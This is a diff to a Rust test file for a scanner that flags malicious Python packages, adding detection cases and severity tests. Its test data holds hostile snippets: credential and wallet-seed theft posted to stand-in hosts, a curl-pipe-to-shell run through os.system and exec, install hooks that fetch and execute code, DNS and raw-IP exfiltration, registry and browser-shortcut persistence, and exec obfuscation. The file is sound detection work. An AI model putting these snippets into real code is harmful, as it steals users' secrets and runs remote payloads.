@@ -69,6 +69,46 @@ fn cases() -> Vec<Case> {
         case("exfil-discord-webhook", m, r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#, r#"DOCS = "https://discord.com/developers/docs""#),
         case("cred-discord-grabber", m, r#"pattern = r"dQw4w9WgXcQ:[^"]*""#, r#"token = getenv("TQDM_DISCORD_TOKEN")"#),
         case("exfil-telegram-bot", m, r#"u = "https://api.telegram.org/bot123456789:FAKEexampleTOKEN/sendMessage""#, "API = 'https://api.telegram.org/bot'"),
+        // The token pasted into an f-string is the same URL.
+        case("exfil-telegram-bot", m, r#"requests.post(f"https://api.telegram.org/bot{TOKEN}/sendMessage", data=d)"#, r#"DOCS = "https://core.telegram.org/bots/api""#),
+        case(
+            "cred-wallet-send",
+            m,
+            r#"requests.post(URL, json={"private_key": key, "address": addr})"#,
+            r#"signed = account.sign_transaction(tx, private_key=key)"#,
+        ),
+        case("cred-wallet-material", m, r#"phrase = wallet["seed_phrase"]"#, r#"phrase = "hello world""#),
+        case(
+            "combo-wallet-exfiltration",
+            m,
+            "def f(w):\n    words = w.mnemonic\n    requests.post(URL, data=words)\n",
+            "def f(w):\n    words = w.mnemonic\n    return words\n\ndef g():\n    requests.post(URL, data=d)\n",
+        ),
+        case("persist-shortcut", m, r#"shell = win32com.client.Dispatch("WScript.Shell")"#, r#"shell = os.environ.get("SHELL")"#),
+        case("persist-browser-flag", m, r#"args.append("--load-extension=" + ext)"#, r#"args.append("--disable-extensions")"#),
+        case(
+            "combo-browser-extension-shortcut",
+            m,
+            "def hijack(lnk):\n    s = shell.CreateShortCut(lnk)\n    s.Arguments = \"--load-extension=\" + ext\n    s.save()\n",
+            "def launch(ext):\n    return browser.launch(args=[\"--load-extension=\" + ext])\n",
+        ),
+        case("install-network-import", i, "import urllib.request", "import setuptools"),
+        case("exfil-dns-built", m, r#"socket.gethostbyname(host + ".collector.invalid")"#, "ip = socket.gethostbyname(socket.gethostname())"),
+        case("exfil-raw-ip-socket", m, r#"s.connect(("203.0.113.7", 9090))"#, r#"s.connect(("127.0.0.1", 9090))"#),
+        case("obf-encoded-url", m, r#"u = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZA==")"#, r#"CERT = "MIIBaHR0cHM6Ly9jcmwuZXhhbXBsZQ==""#),
+        case("obf-exec-alias", m, "_run=exec; _run(payload)", "executor = exec_pool()"),
+        case(
+            "combo-install-network-process",
+            i,
+            "class Up(install):\n    def run(self):\n        r = requests.get(U)\n        open(\"x.py\", \"wb\").write(r.content)\n        subprocess.check_call([sys.executable, \"x.py\"])\n",
+            &format!("def fetch():\n    urllib.request.urlretrieve(FONT, \"f.ttf\")\n{}def version():\n    return subprocess.check_output([\"git\", \"describe\"])\n", filler(100)),
+        ),
+        case(
+            "combo-install-hook-dns",
+            i,
+            "class P(install):\n    def run(self):\n        socket.gethostbyname(\"x.oob.invalid\")\n",
+            "class P(build_py):\n    def run(self):\n        socket.gethostbyname(\"x.oob.invalid\")\n",
+        ),
         case("exfil-http", m, "requests.post(URL, data=d)", "session_id = make_post_id()"),
         case("exfil-socket", m, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)", "kind = socket.SOCK_STREAM"),
         case("exfil-dns", m, r#"socket.gethostbyname(chunk + ".collector.invalid")"#, "from typing import Mapping"),
@@ -88,6 +128,8 @@ fn cases() -> Vec<Case> {
         case("obf-xor-decode", m, "out += chr(ord(c) ^ ord(k))", "out += chr(ord(c) + 1)"),
         case("obf-chr-join", m, "s = ''.join([chr(c) for c in CODES])", "s = ''.join(parts)"),
         case("obf-globals-indirection", m, "f = getattr(globals()[name], attr)", "f = getattr(module, attr)"),
+        // A lookup by a plain constant name hides nothing.
+        case("obf-globals-indirection", m, "f = globals()[''.join(['ex', 'ec'])]", r#"f = getattr(globals()["np"], "float64")"#),
         case("obf-js-mangled", m, "JS = 'var _0x327ff6=_0x11d4;'", "JS = 'var x = 1;'"),
         case("obf-decode", m, "data = base64.b64decode(s)", "data = base64.b64encode(s)"),
         case("obf-exec", m, "exec(code)", "cursor.execute(sql)"),
@@ -120,7 +162,9 @@ fn cases() -> Vec<Case> {
         case("persist-system", m, r#"os.system("crontab -l")"#, r#"schedule = "every hour""#),
         case("persist-system-write", m, r#"open(os.path.expanduser("~/.bashrc"), "a").write(line)"#, r#"rc = open(os.path.expanduser("~/.bashrc"), "r")"#),
         case("persist-windows-run", m, r#"key = r"Software\Microsoft\Windows\CurrentVersion\Run""#, r#"key = r"Software\Microsoft\Windows\CurrentVersion""#),
-        case("persist-browser-extension", m, r#"args = "--load-extension=" + ext_dir"#, r#"args = "--disable-extensions""#),
+        // A registry write that is not an autostart key is a look-alike.
+        case("persist-windows-run", m, r#"winreg.SetValueEx(winreg.OpenKey(HKCU, r"Software\Microsoft\Windows\CurrentVersion\Run"), "u", 0, 1, p)"#, r#"winreg.SetValueEx(settings_key, "Theme", 0, winreg.REG_SZ, value)"#),
+        case("persist-browser-extension", m, r#"s = shell.CreateShortCut(lnk); s.Arguments = "--load-extension=" + ext_dir"#, r#"options.add_argument("--load-extension=" + ext_dir)"#),
         case("persist-modprobe", m, r#"open("/etc/modprobe.d/nvidia.conf", "w")"#, r#"subprocess.run(["modprobe", "-n", "nvidia"])"#),
         case("gpu-driver-path", m, r#"v = open("/proc/driver/nvidia/version").read()"#, "import pynvml"),
         case("gpu-driver-write", m, r#"open("/usr/share/vulkan/icd.d/nvidia_icd.json", "w").write(x)"#, r#"open("/usr/share/vulkan/icd.d/nvidia_icd.json", "r")"#),
@@ -267,8 +311,9 @@ fn severity_weighs_where_code_runs() {
     // The line carries both tags but from two different rules: a beacon.
     assert_eq!(sev(Role::Install), Some(Severity::High));
     assert_eq!(sev(Role::Peripheral), Some(Severity::Low));
-    // A long SDK module weighs a co-occurrence one level lower than a short one.
-    let long = format!("{}{src}\n", filler(500));
+    // A long SDK module weighs a co-occurrence one level lower than a short
+    // one (inside a function: at module level the send runs on import).
+    let long = format!("{}def f():\n    {src}\n", filler(500));
     let f = scan_source_with_floor(
         RuleSet::builtin(),
         long.as_bytes(),
@@ -327,4 +372,149 @@ fn binary_and_huge_inputs_are_bounded() {
     let huge = "x = 1\n".repeat(1_000_000);
     let scan = squatch::findings::scan_source(RuleSet::builtin(), huge.as_bytes(), Role::Module);
     assert!(scan.truncated);
+}
+
+fn max_severity(src: &str, role: Role, id: &str) -> Option<Severity> {
+    scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), role, Severity::Info)
+        .findings
+        .iter()
+        .filter(|f| f.rule_id == id)
+        .map(|f| f.severity)
+        .max()
+}
+
+#[test]
+fn prose_weighs_low_unless_it_runs() {
+    // An install hint in an error message and a usage example in a docstring.
+    let prose = "def need_tool():\n    \"\"\"Install with:\n\n        curl -s https://payload.invalid/i.sh | sh\n    \"\"\"\n    raise RuntimeError(\"run: curl -s https://payload.invalid/i.sh | sh\")\n";
+    assert_eq!(
+        max_severity(prose, Role::Install, "dl-shell-pipe"),
+        Some(Severity::Low)
+    );
+    // The same text as code, and as a string handed to exec, stays critical.
+    let code = "def f():\n    os.system(\"curl -s https://payload.invalid/i.sh | sh\")\n";
+    assert_eq!(
+        max_severity(code, Role::Install, "dl-shell-pipe"),
+        Some(Severity::Critical)
+    );
+    let run = "exec(\"\"\"\nos.system('curl -s https://payload.invalid/i.sh | sh')\n\"\"\")\n";
+    assert_eq!(
+        max_severity(run, Role::Install, "dl-shell-pipe"),
+        Some(Severity::Critical)
+    );
+    // A blob parked in a docstring is prose unless it decodes to code.
+    use base64::Engine;
+    let payload = "import os\n".repeat(60);
+    let enc = base64::engine::general_purpose::STANDARD.encode(payload.as_bytes());
+    let hidden = format!("def f():\n    \"\"\"\n    {enc}\n    \"\"\"\n");
+    assert_eq!(
+        max_severity(&hidden, Role::Install, "obf-long-blob"),
+        Some(Severity::High)
+    );
+    let pic = base64::engine::general_purpose::STANDARD.encode(
+        (0..600u32)
+            .map(|i| (i * 7 % 251) as u8)
+            .collect::<Vec<u8>>(),
+    );
+    let image = format!("def f():\n    \"\"\"\n    {pic}\n    \"\"\"\n");
+    assert_eq!(
+        max_severity(&image, Role::Install, "obf-long-blob"),
+        Some(Severity::Low)
+    );
+}
+
+#[test]
+fn combos_need_two_distinct_hits_in_one_scope() {
+    // Credential in one function, a request in another, close together.
+    let split = "def token():\n    return os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n\ndef ping():\n    requests.post(\"https://collector.invalid\", data=d)\n";
+    assert_eq!(
+        max_severity(split, Role::Install, "combo-credential-exfiltration"),
+        None
+    );
+    let same = "def steal():\n    k = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n    requests.post(\"https://collector.invalid\", data=k)\n";
+    assert_eq!(
+        max_severity(same, Role::Install, "combo-credential-exfiltration"),
+        Some(Severity::Critical)
+    );
+    // One IP-lookup constant carries host_info and network: one hit, no beacon.
+    let one = "IP_SERVICE = \"https://api.ipify.org\"\n";
+    assert_eq!(max_severity(one, Role::Install, "combo-host-beacon"), None);
+}
+
+#[test]
+fn a_credential_sent_to_its_own_vendor_is_not_exfiltration() {
+    let sdk = "def complete(prompt):\n    key = os.environ[\"OPENAI_API_KEY\"]\n    return requests.post(\"https://api.openai.com/v1/chat/completions\", headers={\"Authorization\": \"Bearer \" + key}, json=prompt)\n";
+    assert_eq!(
+        max_severity(sdk, Role::Import, "combo-credential-exfiltration"),
+        None
+    );
+    let gh = "API = \"https://api.github.com\"\n\ndef releases(repo):\n    token = os.environ.get(\"GITHUB_TOKEN\")\n    return requests.get(API + \"/repos/\" + repo, headers={\"Authorization\": token})\n";
+    assert_eq!(
+        max_severity(gh, Role::Import, "combo-credential-exfiltration"),
+        None
+    );
+    // The same key to any other host is exfiltration.
+    let theft = sdk.replace("api.openai.com", "collector.invalid");
+    assert_eq!(
+        max_severity(&theft, Role::Import, "combo-credential-exfiltration"),
+        Some(Severity::Critical)
+    );
+    // A vendor host named only in a docstring does not make it the vendor's.
+    let doc = "\"\"\"Talks to https://api.openai.com.\"\"\"\n\ndef f():\n    key = os.environ[\"OPENAI_API_KEY\"]\n    requests.post(URL, data=key)\n";
+    assert_eq!(
+        max_severity(doc, Role::Import, "combo-credential-exfiltration"),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn module_level_sends_weigh_as_import_code() {
+    let import_time = "import requests\nrequests.post(\"http://203.0.113.9:8080/c\", data=open(\"/etc/hostname\").read())\n";
+    assert_eq!(
+        max_severity(import_time, Role::Module, "exfil-raw-ip-url"),
+        Some(Severity::High)
+    );
+    let in_function = "import requests\n\ndef report():\n    requests.post(\"http://203.0.113.9:8080/c\", data=d)\n";
+    assert_eq!(
+        max_severity(in_function, Role::Module, "exfil-raw-ip-url"),
+        Some(Severity::Low)
+    );
+    let main_guard =
+        "if __name__ == \"__main__\":\n    requests.post(\"http://203.0.113.9:8080/c\", data=d)\n";
+    assert_eq!(
+        max_severity(main_guard, Role::Module, "exfil-raw-ip-url"),
+        Some(Severity::Low)
+    );
+}
+
+#[test]
+fn setup_py_build_time_downloads_are_medium() {
+    let fonts = "import urllib.request\nfrom setuptools.command.install import install\n\nclass Fetch(install):\n    def run(self):\n        urllib.request.urlretrieve(\"https://fonts.invalid/font.ttf\", \"pkg/font.ttf\")\n        install.run(self)\n";
+    let worst = scan_source_with_floor(
+        RuleSet::builtin(),
+        fonts.as_bytes(),
+        Role::Install,
+        Severity::Info,
+    )
+    .findings
+    .iter()
+    .map(|f| f.severity)
+    .max();
+    assert_eq!(worst, Some(Severity::Medium));
+    // With execution of the download it is high.
+    let run = fonts.replace(
+        "        install.run(self)\n",
+        "        os.system(\"pkg/font.ttf\")\n        install.run(self)\n",
+    );
+    let worst = scan_source_with_floor(
+        RuleSet::builtin(),
+        run.as_bytes(),
+        Role::Install,
+        Severity::Info,
+    )
+    .findings
+    .iter()
+    .map(|f| f.severity)
+    .max();
+    assert!(worst >= Some(Severity::High), "{worst:?}");
 }
